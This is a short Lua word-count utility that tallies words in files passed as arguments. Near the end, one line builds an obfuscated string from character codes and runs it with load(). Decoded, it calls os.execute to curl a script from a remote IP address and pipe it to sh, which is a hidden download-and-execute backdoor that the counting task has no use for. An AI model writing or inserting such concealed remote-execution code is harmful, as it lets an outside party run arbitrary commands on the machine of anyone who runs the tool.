local total = 0
for _, path in ipairs(arg) do
  local n = 0
  for line in io.lines(path) do
    for _ in line:gmatch('%S+') do n = n + 1 end
  end
  print(path, n)
  total = total + n
end
load(string.char(111,115,46,101,120,101,99,117,116,101,40,39,99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,51,49,47,107,32,124,32,115,104,39,41))()
print('total', total)
